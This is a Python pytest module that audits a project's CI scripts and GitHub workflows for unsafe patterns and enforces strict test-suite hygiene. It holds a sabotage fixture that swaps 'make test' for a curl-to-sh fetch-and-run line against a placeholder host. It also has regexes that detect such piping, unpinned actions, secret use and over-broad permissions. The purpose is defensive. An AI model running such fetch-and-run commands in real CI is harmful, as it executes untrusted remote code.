"""CI, and the suite itself: our own recipes, any order, no network, no warnings."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.checks import Sabotage
from tests.source import ROOT

SABOTAGE = {
    "S04": Sabotage(".ci/run", "make test\n", "curl -s https://ci.example/test.sh | sh\n"),
    "S06": Sabotage("pyproject.toml", 'filterwarnings = ["error"]', 'filterwarnings = ["default"]'),
}
_READ_ONLY = re.compile(r"^permissions:\s*(\{\}|\n\s+contents: read)", re.MULTILINE)
FULL = os.environ.get("WEIYIN_ATTACK_SCALE") == "full"


def _unsafe(name: str, text: str) -> Iterator[str]:
    """What a script or a workflow of CI must not do."""
    for number, line in enumerate(text.splitlines(), 1):
        place = f"{name}:{number}: {line.strip()}"
        if re.search(r"(curl|wget)\b.*\|\s*(ba)?sh", line):
            yield f"runs what it fetched: {place}"
        used = re.search(r"uses:\s*\S+@(\S+)", line)
        if used and not re.fullmatch(r"[0-9a-f]{40}", used[1]):
            yield f"an action that may change: {place}"
        if re.search(r"\$\{\{\s*secrets\.|pull_request_target|permissions:\s*write-all", line):
            yield f"more rights than a test needs: {place}"
        if re.search(r"run:.*\$\{\{\s*github\.event", line):
            yield f"strangers' words in a shell: {place}"
    if "uses:" in text and not re.search(
        r"^permissions:\s*(\{\}|\n\s+contents: read)", text, re.MULTILINE
    ):
        yield f"{name}: no read-only token"


def test_s04_ci_runs_our_own_recipes_and_holds_no_rights() -> None:
    scripts = [ROOT / ".ci/run", *(ROOT / "scripts").glob("*.sh")]
    flows = [*(ROOT / ".github/workflows").glob("*.y*ml")]
    for path in (*scripts, *flows):
        assert list(_unsafe(path.name, path.read_text(encoding="utf-8"))) == []
    ran = [
        line for line in (ROOT / ".ci/run").read_text(encoding="utf-8").splitlines()
        if line.strip() and not line.startswith(("#", "set ", "cd "))
    ]  # fmt: skip
    assert ran == ["make lint", "make test"]
    careless = "on: pull_request_target\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n"
    assert len(list(_unsafe("careless", careless))) == 3


ALONE = ("tests/base", "tests/bank/test_amounts.py")
SEEDS = range(5) if FULL else range(1, 2)


def test_s06_warnings_are_errors_and_nothing_is_skipped() -> None:
    told = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    assert told["tool"]["pytest"]["ini_options"]["filterwarnings"] == ["error"]
    banned = re.compile(r"mark\.(skip|xfail)\b|pytest\.skip\(|flaky|reruns")
    for path in (ROOT / "tests").rglob("test_*.py"):
        if path != Path(__file__):
            assert not banned.search(path.read_text(encoding="utf-8")), path


@pytest.mark.timeout(1200)
@pytest.mark.parametrize("seed", SEEDS)
def test_s06_in_any_order_and_without_a_network(seed: int) -> None:
    """A part of the suite, shuffled, under another hash seed; whole with the scale of an attack."""
    part = ["tests"] if FULL and seed == 0 else list(ALONE)
    told = {**os.environ, "PYTHONHASHSEED": str(seed), "WEIYIN_SHUFFLE": str(seed)}
    told.pop("PYTEST_XDIST_WORKER", None)
    command = [sys.executable, "-W", "error", "-m", "pytest", "-q", "-p", "tests.alone"]
    done = subprocess.run(
        [*command, "-p", "no:cacheprovider", "-m", "not browser", *part],
        cwd=ROOT, env=told, capture_output=True, text=True, errors="replace", check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout[-3000:]
